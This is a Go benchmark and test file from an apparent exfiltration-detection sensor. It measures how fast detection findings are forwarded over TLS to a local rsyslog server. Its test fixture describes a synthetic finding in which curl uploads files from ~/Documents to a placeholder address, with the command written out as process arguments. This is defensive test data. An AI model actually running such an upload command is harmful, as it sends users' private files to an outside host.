package output

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"exfilwatch/attribution"
	"exfilwatch/internal/rsyslogtest"
	"exfilwatch/sensor/detect"
	"exfilwatch/sensor/events"
	"exfilwatch/sensor/output/syslog"
)

// BenchmarkForwarderTLSToRsyslog is the real delivery path of `run`:
// Forwarder.Finding (RFC 5424 formatting, spool append) from one goroutine,
// as the detector calls it, then the forwarder's sender over TLS to a real
// rsyslogd on loopback. The clock stops when rsyslog has written every one
// of the b.N findings to its file. Reported: findings/s end to end, the p50
// and p99 time from Finding() to the line in rsyslog's file, and the mean
// time Finding() blocks the caller. Run with a fixed count, e.g.
// -bench ForwarderTLSToRsyslog -benchtime 20000x.
func BenchmarkForwarderTLSToRsyslog(b *testing.B) {
	p := rsyslogtest.NewPKI(b, rsyslogtest.PKIOptions{})
	r := rsyslogtest.Start(b, rsyslogtest.Options{TLS: p})
	url := fmt.Sprintf("tls://127.0.0.1:%d", r.TLSPort)
	topts := syslog.TransportOptions{CAFile: p.CAFile}
	fm := &syslog.Formatter{}
	fw, err := NewForwarder(ForwarderOptions{
		Name: url, Dir: SpoolDir(b.TempDir(), url),
		Dial:   func(ctx context.Context) (Sender, error) { return syslog.Dial(ctx, url, topts) },
		Format: fm.Message,
		Log:    zerolog.Nop(),
	})
	if err != nil {
		b.Fatal(err)
	}
	defer fw.Close()

	templates := make([]*detect.Finding, 16)
	var size int
	for i := range templates {
		templates[i] = benchFinding(i)
		m, err := fm.Message(templates[i])
		if err != nil {
			b.Fatal(err)
		}
		size += len(m)
	}
	sent := make([]time.Time, b.N)
	tail := newRsyslogTail(r.Raw, b.N)
	tailDone := make(chan error, 1)
	b.ResetTimer()
	start := time.Now()
	go func() { tailDone <- tail.run(start.Add(120 * time.Second)) }()
	var blocked time.Duration
	for i := 0; i < b.N; i++ {
		f := *templates[i%len(templates)]
		f.ID = benchID(i)
		sent[i] = time.Now()
		fw.Finding(&f)
		blocked += time.Since(sent[i])
	}
	if err := <-tailDone; err != nil {
		b.Fatalf("%v; forwarder %+v; rsyslogd said: %s", err, fw.Stats(), r.Stderr)
	}
	el := time.Since(start)
	b.StopTimer()

	st := fw.Stats()
	if st.Spooled != uint64(b.N) || st.Dropped != 0 || st.SpoolErrors != 0 || st.FormatErrors != 0 {
		b.Fatalf("forwarder lost findings: %+v", st)
	}
	lat := make([]time.Duration, b.N)
	for i := range lat {
		lat[i] = tail.seen[i].Sub(sent[i])
	}
	slices.Sort(lat)
	b.ReportMetric(float64(b.N)/el.Seconds(), "findings/s")
	b.ReportMetric(float64(lat[b.N/2].Microseconds())/1000, "p50-ms")
	b.ReportMetric(float64(lat[b.N*99/100].Microseconds())/1000, "p99-ms")
	b.ReportMetric(float64(blocked.Microseconds())/float64(b.N), "µs-Finding/op")
	b.ReportMetric(float64(size/len(templates)), "msg-bytes")
	b.ReportMetric(float64(tail.dups), "dups")
}

// benchID is a finding id the tail can map back to its index.
func benchID(i int) string { return fmt.Sprintf("%024x", i) }

// rsyslogTail follows rsyslog's raw file and notes when each finding's
// line first appeared (polling every 0.5 ms, which bounds the error of the
// latency figures).
type rsyslogTail struct {
	path string
	seen []time.Time
	left int
	dups int
}

func newRsyslogTail(path string, n int) *rsyslogTail {
	return &rsyslogTail{path: path, seen: make([]time.Time, n), left: n}
}

func (t *rsyslogTail) run(deadline time.Time) error {
	f, err := os.Open(t.path)
	if err != nil {
		return err
	}
	defer f.Close()
	var pending []byte
	buf := make([]byte, 1<<20)
	key := []byte(` id="`)
	for t.left > 0 {
		n, err := f.Read(buf)
		now := time.Now()
		if n > 0 {
			pending = append(pending, buf[:n]...)
			for {
				nl := bytes.IndexByte(pending, '\n')
				if nl < 0 {
					break
				}
				line := pending[:nl]
				if k := bytes.Index(line, key); k >= 0 && len(line) >= k+len(key)+24 {
					id, perr := strconv.ParseUint(string(line[k+len(key):k+len(key)+24]), 16, 64)
					if perr == nil && id < uint64(len(t.seen)) {
						if t.seen[id].IsZero() {
							t.seen[id] = now
							t.left--
						} else {
							t.dups++
						}
					}
				}
				pending = pending[nl+1:]
			}
			continue
		}
		if err != nil && err != io.EOF {
			return err
		}
		if now.After(deadline) {
			return fmt.Errorf("rsyslog wrote %d of %d findings", len(t.seen)-t.left, len(t.seen))
		}
		time.Sleep(500 * time.Microsecond)
	}
	return nil
}

// benchFinding is a realistic AN0424 finding (an HTTP upload by curl after
// reading documents) whose RFC 5424 message is about 4 KB, like the
// syslog package's test findings.
func benchFinding(i int) *detect.Finding {
	exe := "/usr/bin/curl"
	if i%3 == 1 {
		exe = `/tmp/.x/we"ird]\dïr/cürl`
	}
	created := time.Date(2025, 3, 4, 5, 6, 7, 123456789, time.UTC).Add(time.Duration(i) * time.Second)
	f := &detect.Finding{
		ID: benchID(i), RuleID: "AN0424", GOOS: "linux", Created: created,
		Severity: []string{"low", "medium", "high", "critical"}[i%4], Score: i % 8,
		Reasons: []detect.Reason{{Code: "sensitive_read", Description: "curl read ~/Documents/report.pdf"},
			{Code: "network_tool", Description: "curl is a network tool", Weight: 1}},
		Process: &attribution.Process{PID: int32(4000 + i), PPID: 3999, Name: "curl", Executable: exe,
			Args: []string{"curl", "-F", "f=@report.pdf", "http://198.18.0.2:8080/upload"}, UID: 1000, User: "alice"},
		Attribution: "socket_table",
	}
	for j := range 4 {
		f.Files = append(f.Files, detect.File{Path: fmt.Sprintf("/home/alice/Documents/ünïcode-report-%04d.pdf", j), Class: "documents",
			Time: created.Add(-time.Minute), Access: "read", Size: 12345, Hashed: true, PID: int32(4000 + i), ProcessName: "curl",
			Executable: exe, Relation: "self", Source: "fanotify"})
	}
	u := &f.Upload
	u.Protocol = "http"
	u.Conn = events.Conn{FlowID: uint64(i + 1), Client: netip.MustParseAddrPort("198.18.0.1:40000"),
		Server: netip.MustParseAddrPort("198.18.0.2:8080"), Transport: "tcp", Direction: "outbound"}
	u.Start, u.End = created.Add(-2*time.Second), created.Add(-time.Second)
	u.Bytes = int64(100000 + i)
	u.FlowIDs = []uint64{uint64(i + 1)}
	u.Method, u.Target, u.Host, u.UserAgent, u.ContentType = "POST", "/upload", "198.18.0.2:8080", "curl/7.88.1", "multipart/form-data; boundary=x"
	return f
}

// TestBenchFindingSize keeps the benchmark's findings at the size the
// issue asks for (~4 KB of JSON).
func TestBenchFindingSize(t *testing.T) {
	b, err := json.Marshal(benchFinding(1))
	if err != nil {
		t.Fatal(err)
	}
	if len(b) < 3500 || len(b) > 5000 {
		t.Fatalf("benchmark finding JSON is %d bytes, want about 4 KB", len(b))
	}
}
